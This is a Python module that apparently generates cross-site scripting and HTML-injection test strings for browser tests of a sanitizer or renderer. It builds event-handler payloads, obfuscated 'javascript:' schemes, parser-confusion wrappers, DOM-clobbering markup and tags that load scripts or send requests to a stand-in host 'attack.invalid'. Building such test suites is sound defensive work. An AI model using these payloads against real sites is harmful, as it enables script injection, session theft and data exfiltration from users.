"""Texts that try to run a script, send a request or leave the page: our own grammar of attacks.

Written from the classes that the public collections cover, and none of their lines. The browser
tests run these and, as they are installed there, the public collections themselves. `HIT` is what
a script would do if it ran; requests would go to `HOST`.
"""

from collections.abc import Iterator
from itertools import product

HOST = "attack.invalid"
HIT = "top.hit=1,alert(1)"

TAGS = (
    *("a", "audio src", "body", "button", "details open", "div contenteditable", "embed src=x"),
    *("form", "frameset", "iframe src", "image src=x", "img src=x", "input autofocus", "isindex"),
    *("keygen autofocus", "link rel=x", "marquee", "math", "object data=x", "p draggable=true"),
    *("select autofocus", "source", "style", "svg", "svg/", "table background=x", "td", "textarea"),
    *(
        "track",
        "ul",
        "video src",
        "video poster=x",
        "x tabindex=1 id=x",
        "script src=x",
        "dialog open",
    ),
)
HANDLERS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onfocusin", "onblur", "ontoggle"),
    *("onstart", "onbegin", "onpageshow", "onanimationstart", "ontransitionrun", "onpointerenter"),
    *("onwheel", "onscroll", "onresize", "onhashchange", "oncanplay", "onloadstart", "oncopy"),
)
GAPS = (" ", "/", "\t", "\n", "\x0c", "\r\n", "//", "\x00", '"', "'", "/x/", " x=`>`", ' x=">" ')
QUOTES = ("{}", '"{}"', "'{}'", "`{}`", "&quot;{}&quot;")
SCRIPTS = (
    HIT,
    "top.hit=1",
    "top['hi'+'t']=1",
    "eval(atob('dG9wLmhpdD0x'))",
    "setTimeout`top.hit\\x3d1`",
    "&#116;op.hit=1",
    "&#x74;op.hit&equals;1",
    "import('//" + HOST + "/a.js')",
    "fetch('//" + HOST + "/b')",
    "location='//" + HOST + "/c'",
    "document.write('<img src=//" + HOST + "/d>')",
)

CODE = "top.hit=1"
SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "javascript&colon;", "javascript&#58;", "javascript&#x3a;"),
    *("javascript&#0000058", "&#106;avascript:", "&#x6A;avascript:", "&#x0006A&#97vascript:"),
    *("java\tscript:", "java&Tab;script:", "java&NewLine;script:", "java&#10;script:"),
    *("java\nscript:", "java\x00script:", "java\\script:", " javascript:", "\x01javascript:"),
    *("&#1;javascript:", "&#xA0;javascript:", "&#x2028;javascript:", "&ZeroWidthSpace;javascript:"),
    *("\u00a0javascript:", "\u200bjavascript:", "\ufeffjavascript:", "javascript\u200b:"),
    *("ｊavascript:", "ja%76ascript:", "javascript%3A", "java%0ascript:", "javascript :"),
    *("javascript://x.org/%0a", "javascript:/*", "javascript:\\u0074op.hit=1//", "jscript:"),
    *("livescript:", "mocha:", "vbscript:", "vbs&#99;ript:", "view-source:javascript:"),
    *("feed:javascript:", "jar:javascript:", "data:text/html,<script>", "data:text/html;base64,"),
    *("data:image/svg+xml,<svg onload=", "data:,"),
    *("DATA:text/html&comma;", "blob:null/", "file:///"),
    *("filesystem:", "about:blank#", "x-javascript:"),
    *("javascript&colon&#10;", "intent:", "//", "///"),
    *("/\\", "\\\\", "https:", "https:/", "https:\\\\"),
    *("https://x@", "https://x.org\\@", "?", "#", ""),
)
PLACES = (
    *("[a]({})", "[a](<{}>)", "[a]( {} )", "[a]({} 'b')", "![a]({})", "![a](<{}>)", "<{}>", "{}"),
    *("[a]: {}\n\n[a]", "[a][b]\n\n[b]: {}", "[a]: <{}> 'x'\n\n![a]", "[![a]({})]({})", "[{}]({})"),
    *("[a](https://x.org '{}')", '[a](https://x.org "{}")', "[a](https://x.org/{})", "`{}`"),
    *("https://x.org/{}", "<https://x.org/{}>", "https://x.org?{}", "> [a]({})", "- [a]({})"),
    *("**[a]({})**", "[**a**]({})", "# [a]({})"),
    *("| [a]({}) |\n|---|", "    [a]({})", "```\n{}\n```"),
    *("<a href={}>b</a>", "<a href='{}'>b</a>", '<a href="{}">b</a>', "<a/href={} >b"),
    *("<iframe src='{}'>", "<form action='{}'><input type=submit>", "<svg><a xlink:href='{}'>b"),
    *("<embed src='{}'>", "<object data='{}'>", "<button formaction='{}'>b", "<base href='{}'>"),
    "<meta http-equiv=refresh content='0;url={}'>",
    *("<img src='{}'>", "<link href='{}' rel=import>"),
)

# What can stand around another attack: parsers that disagree about the end of something.
WRAPS = (
    *("{}", "<!--{}", "<!-->{}", "<!--->{}", "<!--{}-->", "<!--a--!>{}", "-->{}", "<![CDATA[{}]]>"),
    *("]]>{}", "<?xml {}?>", "<?{}", "<!DOCTYPE {}"),
    *("<!{}", "</{}", "<%{}%>", "<xmp>{}", "</xmp>{}"),
    *("<plaintext>{}", "<title>{}", "</title>{}", "<textarea>{}", "</textarea>{}", "<style>{}"),
    *("</style>{}", "<script>{}", "</script>{}", "<noscript>{}", "</noscript>{}", "<template>{}"),
    *("<noembed>{}", "<noframes>{}", "<iframe>{}", "<listing>{}", "<select>{}", "<option>{}"),
    *("<noscript><p title='</noscript>{}'>", "<svg></p><style><a id='</style>{}'>"),
    *("<math><mtext><table><mglyph><style><!--</style>{}", "<svg><desc>{}", "<svg><title>{}"),
    *("<svg><foreignObject>{}", "<math><annotation-xml encoding='text/html'>{}", "<math><mi>{}"),
    *("<form><math><mtext></form><form><mglyph><style></math>{}", "<table><tr><td>{}"),
    *("<table>{}</table>", "<p>{}</p>", "</p>{}"),
    *("</div></body></html>{}", "<a><a>{}", "<b><p></b>{}"),
    *("'>{}", '">{}', "`>{}", "'\"`>{}", '\\"{}'),
    *("&lt;{}", "&amp;lt;{}", "&#60;{}", "\\<{}", "<<{}"),
    *("`{}`", "``{}", "```{}", "```\n{}\n```", "~~~ {}\n"),
    *("    {}", "\t{}", "> {}", "- {}", "1. {}"),
    *("# {}", "{}\n===", "{}\n---"),
    *("| {} |\n|---|\n| {} |", "[{}](https://x.org)", "[a]: {}", "[{}]"),
    *("![{}](https://x.org)", "*{}*", "**{}**", "_{}_"),
    *("[^1]: {}", "::: {}", "[[claim:{}]]", "$${}$$"),
    *("[a](https://x.org '{}')", '[a](https://x.org "{}")'),
    *("[a](https://x.org ({}))", "\u202e{}\u202c"),
    *("{{{{ {} }}}}", "{{% {} %}}", "${{{}}}", "<{}>", "<https://x.org/{}>", "https://x.org/{}"),
)
CORES = (
    f"<script>{HIT}</script>",
    f"<img src=x onerror={CODE}>",
    f"<svg onload={CODE}>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    f"<script src=//{HOST}/a.js></script>",
)

# What sends a request, or changes how scripts of the page find their way, without a script.
SILENT = (
    f"<img src=//{HOST}/1>",
    f"<img srcset='//{HOST}/2 1x'>",
    f"<picture><source srcset=//{HOST}/3><img>",
    f"<link rel=stylesheet href=//{HOST}/4.css>",
    f"<link rel=prefetch href=//{HOST}/5>",
    f"<link rel=dns-prefetch href=//{HOST}>",
    f"<style>@import '//{HOST}/6.css'</style>",
    f"<style>body{{background:url(//{HOST}/7)}}</style>",
    f"<p style='background:url(//{HOST}/8)'>a</p>",
    f"<p style=\"list-style:url('//{HOST}/9')\">a</p>",
    f"<video poster=//{HOST}/10 src=//{HOST}/11 autoplay></video>",
    f"<audio src=//{HOST}/12 autoplay></audio>",
    f"<input type=image src=//{HOST}/13>",
    f"<body background=//{HOST}/14>",
    f"<table background=//{HOST}/15><td background=//{HOST}/16>",
    f"<object data=//{HOST}/17></object><embed src=//{HOST}/18>",
    f"<iframe src=//{HOST}/19></iframe><frame src=//{HOST}/20>",
    f"<svg><image href=//{HOST}/21 /><use xlink:href=//{HOST}/22#a /></svg>",
    f"<svg><feImage href=//{HOST}/23 /></svg>",
    f"<meta http-equiv=refresh content='0;//{HOST}/24'>",
    f"<base href=//{HOST}/>",
    f"<form action=//{HOST}/25><input autofocus></form>",
    f"<a href=//{HOST}/26 ping=//{HOST}/27>a</a>",
    f"<track src=//{HOST}/28>",
    f"<script type=module src=//{HOST}/29></script>",
    f"<html manifest=//{HOST}/30>",
    f"<portal src=//{HOST}/31></portal>",
    f"<fencedframe src=//{HOST}/32>",
    f"![a](https://{HOST}/33)",
    f"![a](//{HOST}/34 'b')",
    f"[![a](https://{HOST}/35)](https://{HOST}/36)",
    f"![a][b]\n\n[b]: https://{HOST}/37",
    f"<https://{HOST}/38>",
    "<img name=cookie><form id=location><input name=attributes><a id=body>",
    "<div id=comments class=site-header style=position:fixed;inset:0>a</div>",
    "<p hidden inert aria-hidden=true slot=a is=b popover>a</p>",
)


def attacks() -> dict[str, str]:
    """Return every attack under a name that tells its class; no text stands twice."""
    found: dict[str, str] = {}
    known: set[str] = set()
    for sort, text in _all():
        if text not in known:
            known.add(text)
            found[f"{sort} {len(known)}"] = text
    return found


def _all() -> Iterator[tuple[str, str]]:
    for tag, handler in product(TAGS, HANDLERS):
        yield "handler", f"<{tag} {handler}={CODE}>"
    for gap, quote, tag in product(GAPS, QUOTES, ("img src=x", "svg", "details open")):
        yield "spelling", f"<{tag}{gap}onerror={quote.format(CODE)} onload={CODE}>"
    for script, quote in product(SCRIPTS, QUOTES):
        yield "script", f"<img src=x onerror={quote.format(script)}>"
        yield "script", f"<script>{script}</script>"
    for place, scheme in product(PLACES, SCHEMES):
        yield "address", place.replace("{}", scheme + CODE)
    for wrap, core in product(WRAPS, CORES):
        yield "wrap", wrap.replace("{}", core)
    for outer, inner in product(WRAPS, WRAPS):
        yield "nested", outer.replace("{}", inner.replace("{}", CORES[1]))
    for text in SILENT:
        yield "silent", text
        yield "silent", text.replace("//", "http://")
        yield "silent", text.upper()
        yield "silent", f"> {text}\n\n- {text}\n\n`{text}` {text}"
